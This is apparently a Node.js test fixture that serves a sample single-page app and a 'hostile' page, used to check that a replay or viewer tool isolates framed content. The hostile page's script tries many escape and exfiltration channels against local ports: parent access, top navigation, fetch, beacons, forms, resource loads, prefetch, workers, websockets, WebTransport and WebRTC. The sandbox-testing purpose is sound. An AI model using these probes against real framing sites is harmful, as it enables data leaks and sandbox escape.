// Two tools whose recordings run_replay.py plays back: `node replay_tools.mjs SPA_PORT HOSTILE_PORT`. A single-page application (modules, fetch, history, storage, an event stream, polls), and a
// page that, once it is framed, tries every way out that a script has.
import { createServer } from 'node:http';

const css = `body{font:16px sans-serif;margin:2rem;background:#eef4fb}li{padding:.4rem;border-bottom:1px solid #9ab}nav a{margin-right:1rem}#now{color:#456}h1{color:#124}`;
const spaPage = `<!doctype html><html><head><meta charset=utf-8><title>Orders &amp; more</title><link rel=stylesheet href="/app.css"><script type=module src="/app.js"></script></head><body><div id=app>loading …</div></body></html>`;
const spaScript = `import { draw } from './draw.js';
localStorage.setItem('visits', String(Number(localStorage.getItem('visits') ?? 0) + 1));
const state = { items: [], polls: 0, events: [], route: location.pathname };
const show = () => draw(state);
async function load() { state.items = await (await fetch('/api/items?_=' + Date.now(), { headers: { 'X-App': '1' } })).json(); show(); }
const key = crypto.randomUUID();
async function poll() { const r = await (await fetch('/api/status?_=' + Date.now())).json(); state.polls = r.count; show(); if (r.count < 4) setTimeout(poll, 100); }
document.addEventListener('click', async e => {
  const a = e.target.closest('a');
  if (a) { e.preventDefault(); history.pushState({}, '', a.getAttribute('href')); state.route = location.pathname; show(); }
  if (e.target.id === 'add') { await fetch('/api/items', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ name: 'Amber', password: 'hunter2' }) }); load(); }
});
const events = new EventSource('/events');
events.onmessage = e => { state.events.push(e.data); show(); };
await load();
poll();`;
const spaDraw = `export function draw(s) {
  const app = document.getElementById('app');
  app.replaceChildren();
  const add = (name, text, more = {}) => app.append(Object.assign(document.createElement(name), { textContent: text, ...more }));
  add('h1', 'Orders at ' + s.route);
  const nav = document.createElement('nav');
  for (const where of ['/', '/archive']) nav.append(Object.assign(document.createElement('a'), { href: where, textContent: where }));
  app.append(nav);
  const list = document.createElement('ul');
  for (const i of s.items) list.append(Object.assign(document.createElement('li'), { textContent: i.name + ' ' + (i.secret ?? '') }));
  app.append(list, Object.assign(document.createElement('button'), { id: 'add', textContent: 'Add' }));
  add('p', 'status ' + s.polls + ', events ' + s.events.join(' '), { id: 'state' });
  add('p', new Date().toISOString().slice(0, 13) + ' h', { id: 'now' });
}`;
let items = [{ name: 'Birch', secret: 'plain' }, { name: 'Cedar' }], count = 0;
const json = (response, v, status = 200) => response.writeHead(status, { 'Content-Type': 'application/json' }).end(JSON.stringify(v));
const spa = createServer((request, response) => {
  const path = request.url.split('?')[0], file = { '/app.js': ['text/javascript', spaScript], '/draw.js': ['text/javascript', spaDraw], '/app.css': ['text/css', css] }[path];
  if (file) return response.writeHead(200, { 'Content-Type': file[0] }).end(file[1]);
  if (path === '/api/items' && request.method === 'POST') {
    items = [...items, { name: 'Amber' }];
    return json(response, { ok: true }, 201);
  }
  if (path === '/api/items') return json(response, items);
  if (path === '/api/status') return json(response, { count: ++count });
  if (path === '/events') {
    response.writeHead(200, { 'Content-Type': 'text/event-stream', 'Cache-Control': 'no-store' });
    ['one', 'two', 'three'].forEach((word, i) => setTimeout(() => response.write(`data: ${word}\n\n`), 50 * i));
    return;
  }
  response.writeHead(200, { 'Content-Type': 'text/html', 'Content-Security-Policy': "default-src 'self'", 'Set-Cookie': 'session=abc; Path=/', 'Clear-Site-Data': '"cache"' }).end(spaPage);
});

// Each way out puts what came of it into `results`; TCP and UDP are ports that must hear nothing.
const attack = (tcp, udp) => `const results = window.results = {}, out = 'http://127.0.0.1:${tcp}', viewer = location.ancestorOrigins?.[0] ?? '';
const tried = async (name, what) => { try { results[name] = String(await Promise.race([what(), new Promise((ok, no) => setTimeout(no, 4000, 'nothing came'))])); } catch (e) { results[name] = 'stopped: ' + (e.name ?? e); } };
const element = (name, attributes) => document.head.appendChild(Object.assign(document.createElement(name), attributes));
if (self !== top) {
  await tried('parent document', () => parent.document.title);
  await tried('parent location', () => parent.location.href);
  await tried('parent storage', () => parent.sessionStorage.getItem('key'));
  await tried('top navigation', () => { top.location = out; return 'tried'; });
  await tried('viewer api', async () => (await fetch(viewer + '/api/session')).status);
  await tried('viewer api without cors', async () => (await fetch(viewer + '/api/session', { mode: 'no-cors' })).type);
  await tried('viewer in a frame', () => { element('iframe', { src: viewer + '/' }); return 'tried'; });
  await tried('fetch', async () => (await fetch(out)).status);
  await tried('no-cors fetch', async () => (await fetch(out, { mode: 'no-cors' })).type);
  await tried('beacon', () => navigator.sendBeacon(out, 'x'));
  await tried('window.open', () => window.open(out));
  await tried('form', () => { const f = document.body.appendChild(document.createElement('form')); f.action = out; f.method = 'post'; f.submit(); return 'tried'; });
  await tried('form in a new tab', () => { const f = document.body.appendChild(document.createElement('form')); f.action = out; f.target = '_blank'; f.submit(); return 'tried'; });
  await tried('image', () => { new Image().src = out + '/i'; return 'tried'; });
  await tried('script', () => { element('script', { src: out + '/s' }); return 'tried'; });
  await tried('style', () => { element('link', { rel: 'stylesheet', href: out + '/c' }); element('style', { textContent: '@import "' + out + '/d"; body { background: url(' + out + '/e) }' }); return 'tried'; });
  await tried('frame', () => { element('iframe', { src: out }); return 'tried'; });
  await tried('base', () => { element('base', { href: out + '/' }); new Image().src = 'relative'; return document.baseURI; });
  for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'modulepreload', 'prerender', 'icon', 'manifest']) element('link', { rel, href: out + '/' + rel, as: 'script' });
  await tried('speculation', () => { element('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [out + '/p'] }], prerender: [{ source: 'list', urls: [out + '/q'] }] }) }); return 'tried'; });
  await tried('service worker', () => navigator.serviceWorker.register('/sw.js'));
  await tried('worker', () => new Promise((ok, no) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('" + out + "/w').then(() => postMessage('out'), e => postMessage('stopped'))"]))); w.onmessage = e => ok(e.data); w.onerror = () => no(new Error('error')); }));
  await tried('cookie', () => { document.cookie = 'a=b; domain=localhost'; document.cookie = 'a=b; domain=127.0.0.1'; return 'tried'; });
  const blank = document.body.appendChild(document.createElement('iframe')).contentWindow;
  await tried('websocket', () => new Promise((ok, no) => { const w = new blank.WebSocket(out.replace('http', 'ws')); w.onopen = () => ok('open'); w.onerror = () => no(new Error('error')); }));
  await tried('webtransport', async () => { const t = new blank.WebTransport('https://127.0.0.1:${udp}/'); await t.ready; return 'open'; });
  results.done = true;
  if (location.search.includes('leave')) {
    element('meta', { httpEquiv: 'refresh', content: '0;url=' + out + '/m' });
    setTimeout(() => { location.href = out + '/left'; }, 500);
  }
  if (location.search.includes('rtc')) {
  await tried('rtc', () => { const p = new blank.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udp}' }, { urls: 'turn:127.0.0.1:${tcp}?transport=tcp', username: 'u', credential: 'c' }] }); p.createDataChannel('x'); return p.createOffer().then(o => p.setLocalDescription(o)).then(() => 'tried'); });
    results.rang = true;
  }
}`;
const hostile = createServer((request, response) => {
  const u = new URL(request.url, 'http://x');
  if (u.pathname === '/attack.js') return response.writeHead(200, { 'Content-Type': 'text/javascript' }).end(attack(Number(u.searchParams.get('tcp')), Number(u.searchParams.get('udp'))));
  if (u.pathname === '/sw.js') return response.writeHead(200, { 'Content-Type': 'text/javascript', 'Service-Worker-Allowed': '/' }).end('');
  response.writeHead(200, { 'Content-Type': 'text/html', Refresh: '600;url=/', Link: `<http://127.0.0.1:${u.searchParams.get('tcp')}/link>; rel=preconnect` });
  response.end(`<title>hostile</title><link rel=preconnect href="http://127.0.0.1:${u.searchParams.get('tcp')}"><link rel=dns-prefetch href="http://127.0.0.1:${u.searchParams.get('tcp')}"><h1>A page that wants out</h1>
<img src="http://127.0.0.1:${u.searchParams.get('tcp')}/markup"><script>fetch('/sw.js')</script><script type=module src="/attack.js?tcp=${u.searchParams.get('tcp')}&udp=${u.searchParams.get('udp')}"></script>`);
});
spa.listen(Number(process.argv[2]), '127.0.0.1');
hostile.listen(Number(process.argv[3]), '127.0.0.1');
